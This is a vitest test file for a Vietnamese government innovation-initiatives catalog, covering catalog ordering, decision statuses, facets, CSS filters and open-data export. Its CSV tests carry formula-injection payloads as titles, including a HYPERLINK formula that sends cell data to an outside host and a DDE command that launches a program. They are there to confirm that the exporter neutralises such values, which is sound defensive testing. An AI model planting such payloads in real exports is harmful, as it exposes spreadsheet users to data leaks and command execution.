import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import {
  adopterNames,
  buildCatalog,
  type CatalogInput,
  pickCurrentCampaign,
} from '../../src/lib/catalog.ts';
import {
  buildFacets,
  filterCss,
  listItemId,
  sortCss,
  sortPositions,
} from '../../src/lib/facets.ts';
import { initiativeNames } from '../../src/lib/initiative-names.ts';
import { columns, toCsv, toRecords } from '../../src/lib/opendata.ts';
import { summariseIndicators } from '../../src/lib/stats.ts';
import type { Campaign, Decision, Indicator, Initiative } from '../../src/schemas/index.ts';
import { recognisedAndAdopted, testCampaign } from '../support/catalog-fixture.ts';

const initiative = (id: string, over: Partial<Initiative>) => ({
  id,
  data: {
    title: id,
    summary: 's',
    campaign: '2024-thu',
    unit: 'xa-a',
    authors: [{ name: 'A', position: 'B', unit: 'xa-a' }],
    areas: ['procedures'],
    fields: ['online-services'],
    goals: [],
    firstApplied: '2024-01-01',
    submitted: '2024-08-01',
    trialParticipants: [],
    indicators: [],
    attachments: [],
    videos: [],
    adaptedFrom: [],
    keywords: [],
    sample: false,
    ...over,
  } as Initiative,
});

function input(): CatalogInput {
  return {
    campaigns: [testCampaign(2023, 'closed'), testCampaign(2024, 'closed')],
    initiatives: [
      initiative('zeta', { title: 'Ứng dụng Zalo', submitted: '2024-08-03' }),
      initiative('alpha', {
        title: 'Đơn giản hóa',
        unit: 'xa-b',
        areas: ['procedures', 'digital-government'],
      }),
      initiative('beta', { title: 'Bưu chính', campaign: '2023-thu', adaptedFrom: ['alpha'] }),
    ],
    units: [
      { id: 'xa-a', data: { id: 'xa-a', name: 'Xã Đức Phú', kind: 'commune' } },
      { id: 'xa-b', data: { id: 'xa-b', name: 'Xã Bắc Ruộng', kind: 'commune' } },
    ],
    ...recognisedAndAdopted('alpha'),
  };
}

describe('buildCatalog', () => {
  const catalog = buildCatalog(input());

  test('orders newest campaign, then newest submission, and links previous/next', () => {
    expect(catalog.initiatives.map((view) => view.id)).toEqual(['zeta', 'alpha', 'beta']);
    expect(catalog.initiativeById.get('alpha')?.previous?.id).toBe('zeta');
    expect(catalog.initiativeById.get('alpha')?.next?.id).toBe('beta');
    expect(catalog.initiativeById.get('zeta')?.previous).toBeUndefined();
  });

  test('names who took an initiative up: adopting units, then initiatives adapted from it', () => {
    const alpha = catalog.initiativeById.get('alpha');
    if (!alpha) throw new Error('alpha');
    expect(adopterNames(alpha, catalog.unitById)).toEqual(['Xã Đức Phú', 'Bưu chính']);
    // An adopter missing from the unit list is named by its id.
    expect(adopterNames(alpha, new Map())).toEqual(['xa-a', 'Bưu chính']);
  });

  test('the titles and adopters the admin reads from the site, by id in order', () => {
    const names = initiativeNames(catalog);
    expect(Object.keys(names.initiatives)).toEqual(['alpha', 'beta', 'zeta']);
    expect(names.initiatives).toEqual({
      alpha: { title: 'Đơn giản hóa', adopters: ['Xã Đức Phú', 'Bưu chính'] },
      beta: { title: 'Bưu chính' },
      zeta: { title: 'Ứng dụng Zalo' },
    });
  });

  test('resolves decision scores, grade, scope and adoptions', () => {
    const alpha = catalog.initiativeById.get('alpha');
    expect(alpha?.result?.total).toBe(80.5);
    expect(alpha?.result?.gradeName).toBe('Tốt');
    expect(alpha?.result?.scope?.name).toBe('Cấp huyện');
    expect(alpha?.result?.lines.map((line) => line.score)).toEqual([50, 30.5]);
    expect(alpha?.adoptions).toHaveLength(1);
    expect(alpha?.adaptedBy).toEqual([
      { id: 'beta', title: 'Bưu chính', status: { id: 'undecided', label: 'Chưa xét' } },
    ]);
    expect(catalog.initiativeById.get('beta')?.adaptedFrom).toMatchObject([
      { id: 'alpha', title: 'Đơn giản hóa', status: { label: 'Được công nhận — Tốt' } },
    ]);
  });

  test('every initiative, and every link to one, carries its status from the decisions', () => {
    const withRefusal = buildCatalog({
      ...input(),
      decisions: [
        {
          id: '2024-thu',
          data: {
            campaign: '2024-thu',
            results: [
              ...(input().decisions[0]?.data.results ?? []),
              {
                initiative: 'zeta',
                scores: { novelty: 20, effect: 10 },
                votesFor: 1,
                votesAgainst: 4,
                recused: [],
                recognised: false,
                replicate: false,
              },
              // A line about an initiative of another campaign does not decide it.
              { ...input().decisions[0]?.data.results[0], initiative: 'beta' },
            ],
          } as unknown as Decision,
        },
      ],
    });
    const labels = withRefusal.initiatives.map((view) => [view.id, view.status.label]);
    expect(labels).toEqual([
      ['zeta', 'Chưa được công nhận'],
      ['alpha', 'Được công nhận — Tốt'],
      ['beta', 'Chưa xét'],
    ]);
    expect(withRefusal.initiativeById.get('zeta')?.result?.total).toBe(30);
    expect(withRefusal.initiativeById.get('beta')?.result).toBeUndefined();
    expect(withRefusal.initiativeById.get('alpha')?.previous?.status.id).toBe('not-recognised');
    expect(withRefusal.initiativeById.get('alpha')?.next?.status.id).toBe('undecided');
    expect(
      [...withRefusal.byStatus].map(([status, views]) => [status, views.map((view) => view.id)]),
    ).toEqual([
      ['not-recognised', ['zeta']],
      ['recognised', ['alpha']],
      ['undecided', ['beta']],
    ]);
    const facet = buildFacets(withRefusal).find((candidate) => candidate.key === 'status');
    // Option ids are the Vietnamese slugs of the options' own pages (and of the list's address).
    expect(facet?.preset).toBe('duoc-cong-nhan');
    expect(facet?.options.map((option) => [option.id, option.label, option.count])).toEqual([
      ['duoc-cong-nhan', 'Được công nhận', 1],
      ['chua-duoc-cong-nhan', 'Chưa được công nhận', 1],
      ['chua-xet', 'Chưa xét', 1],
    ]);
    expect(facet?.options[2]?.href).toMatch(/sang-kien\/ket-qua-xet\/chua-xet\/$/);
  });

  const groups: [keyof typeof catalog, string, string[]][] = [
    ['byArea', 'procedures', ['zeta', 'alpha', 'beta']],
    ['byArea', 'digital-government', ['alpha']],
    ['byUnit', 'xa-b', ['alpha']],
    ['byCampaign', '2023-thu', ['beta']],
    ['byScope', 'huyen', ['alpha']],
  ];
  test.each(groups)('%s[%s] = %o', (map, key, ids) => {
    const group = (catalog[map] as Map<string, { id: string }[]>).get(key) ?? [];
    expect(group.map((view) => view.id)).toEqual(ids);
  });

  test('units are sorted in Vietnamese order', () => {
    expect(catalog.units.map((unit) => unit.name)).toEqual(['Xã Bắc Ruộng', 'Xã Đức Phú']);
  });

  test('an empty repository gives an empty catalog, not an error', () => {
    const empty = buildCatalog({
      campaigns: [],
      initiatives: [],
      units: [],
      scopeLevels: [],
      decisions: [],
      adoptions: [],
    });
    expect(empty.initiatives).toEqual([]);
    expect(empty.currentCampaign).toBeUndefined();
    expect(
      buildFacets(empty).every((facet) => facet.options.every((option) => option.count === 0)),
    ).toBe(true);
  });
});

describe('pickCurrentCampaign', () => {
  const cases: [Campaign['status'][], number | undefined][] = [
    [['closed', 'closed'], 2024],
    [['open', 'closed'], 2023],
    [[], undefined],
  ];
  test.each(cases)('%o → %s', (statuses, year) => {
    const campaigns = statuses.map((status, index) => testCampaign(2023 + index, status));
    expect(pickCurrentCampaign(campaigns)?.data.year).toBe(year);
  });
});

describe('indicator summary', () => {
  const measured = (
    kind: Indicator['kind'],
    before: number,
    after: number,
    better?: Indicator['better'],
  ): Indicator => ({
    kind,
    ...(kind === 'other' && { label: 'Số cuộc gọi hỏi', unit: 'cuộc', better }),
    before: { value: before, period: '2023' },
    after: { value: after, period: '2024' },
    source: 'Sổ theo dõi',
  });
  const catalog = buildCatalog({
    ...input(),
    initiatives: [
      initiative('a', {
        indicators: [measured('late-dossier-rate', 18, 6), measured('other', 420, 95, 'lower')],
      }),
      initiative('b', {
        indicators: [measured('late-dossier-rate', 5, 5), measured('other', 40, 30, 'higher')],
      }),
      initiative('c', { indicators: [measured('late-dossier-rate', 4, 9)] }),
    ],
  });
  const rows = summariseIndicators(catalog);

  test('each kind counts improved, unchanged and worse by its own direction', () => {
    expect(
      rows.map((row) => [row.kind, row.reported, row.improved, row.unchanged, row.worse]),
    ).toEqual([
      ['late-dossier-rate', 3, 1, 1, 1],
      // 420 → 95 calls (fewer is better) improved; 40 → 30 views (more is better) did not.
      ['other', 2, 1, 0, 1],
    ]);
    expect(rows[0]).toMatchObject({ direction: 'lower', averageBefore: 9, averageAfter: 6.67 });
  });

  test('"other" indicators have no common direction or average: their units differ', () => {
    expect(rows[1]?.direction).toBeUndefined();
    expect(rows[1]?.averageBefore).toBeUndefined();
    expect(rows[1]?.averageAfter).toBeUndefined();
  });
});

describe('list filters and sorts', () => {
  const catalog = buildCatalog(input());
  test('facets count initiatives per option', () => {
    const area = buildFacets(catalog).find((facet) => facet.key === 'area');
    expect(area?.options.find((option) => option.id === 'thu-tuc-hanh-chinh')?.count).toBe(3);
    expect(area?.options.find((option) => option.id === 'tai-chinh-cong')?.count).toBe(0);
  });
  test('CSS has one hiding rule per option and one order rule per sort', () => {
    const css = filterCss(buildFacets(catalog));
    expect(css).toContain(
      '#loc-area-thu-tuc-hanh-chinh:checked) .kho-results>li:not([data-area~="thu-tuc-hanh-chinh"])',
    );
    expect(css).toContain('#xep-ten:checked) .kho-results>li{order:var(--kho-o-ten)}');
    expect(css).toContain(
      '#loc-status-duoc-cong-nhan:checked) .kho-results>li:not([data-status~="duoc-cong-nhan"])',
    );
  });
  test('sort positions are a stylesheet keyed by the list item id, not style attributes', () => {
    const css = sortCss(catalog.initiatives);
    expect(css.split('\n')).toHaveLength(catalog.initiatives.length);
    expect(css).toContain(`#${listItemId('beta')}{--kho-o-moi-nhat:`);
    expect(css).toMatch(/#sk-beta\{[^}]*--kho-o-ten:1;/);
  });
  test('an id that is not a plain slug is escaped in the stylesheet', () => {
    const [first] = catalog.initiatives;
    if (!first) throw new Error('no sample');
    const css = sortCss([{ ...first, id: 'a.b}c' }]);
    expect(css.startsWith('#sk-a\\2e b\\7d c{')).toBe(true);
  });
  test('sort positions: Vietnamese title order and score order', () => {
    const positions = sortPositions(catalog.initiatives);
    // Bưu chính < Đơn giản hóa < Ứng dụng Zalo
    expect(positions.get('beta')?.ten).toBe(1);
    expect(positions.get('alpha')?.ten).toBe(2);
    expect(positions.get('zeta')?.ten).toBe(3);
    expect(positions.get('alpha')?.diem).toBe(1);
  });
});

describe('open data', () => {
  const catalog = buildCatalog(input());
  const cols = columns((id) => `/sang-kien/${id}/`);
  const abs = (path: string) => `https://example.gov.vn${path}`;
  test('CSV starts with a BOM and has one row per initiative', () => {
    const csv = toCsv(catalog.initiatives, cols, abs);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.trim().split('\r\n')).toHaveLength(1 + catalog.initiatives.length);
    expect(csv).toContain('Tên sáng kiến, giải pháp');
  });
  test.each([
    '=HYPERLINK("https://example.com/?q="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
  ])('CSV: a title %j is text, not a formula; numbers stay numbers', (title) => {
    const hostile = buildCatalog({
      ...input(),
      initiatives: [initiative('doc-hai', { title, summary: '-1', submitted: '2024-08-03' })],
    });
    const [header, row] = parseCsv(toCsv(hostile.initiatives, cols, abs), {
      bom: true,
    }) as string[][];
    const at = (key: string) => (row as string[])[cols.findIndex((col) => col.key === key)];
    expect(header?.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    expect(at('title')).toBe(`'${title}`);
    expect(at('summary')).toBe("'-1");
    expect(at('year')).toBe('2024');
    expect(at('adoptions')).toBe('0');
  });
  test('JSON records carry every column key', () => {
    const [record] = toRecords(catalog.initiatives, cols, abs);
    expect(Object.keys(record ?? {})).toEqual(cols.map((col) => col.key));
    expect(record?.url).toBe('https://example.gov.vn/sang-kien/zeta/');
  });
});
